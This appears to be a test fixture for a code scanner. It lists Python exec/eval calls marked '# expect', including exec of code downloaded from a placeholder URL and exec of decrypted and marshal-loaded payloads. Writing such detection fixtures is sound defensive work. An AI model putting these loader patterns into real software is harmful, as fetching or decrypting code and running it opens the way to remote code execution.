import marshal
import os
import urllib.request

import helper_library
from cryptography.fernet import Fernet

exec(os.environ["SAMPLE_STAGE"])  # expect
exec(urllib.request.urlopen("https://example.com/stage").read())  # expect
exec(Fernet(os.environ["SAMPLE_KEY"]).decrypt(b"gAAAAA"))  # expect
eval(input())  # expect
exec(helper_library.build())  # expect
exec(open("/opt/sample/stage.py").read())  # expect
exec(marshal.loads(b"\xe3\x00\x01"))  # expect


def run(code):
    return eval(code)  # expect
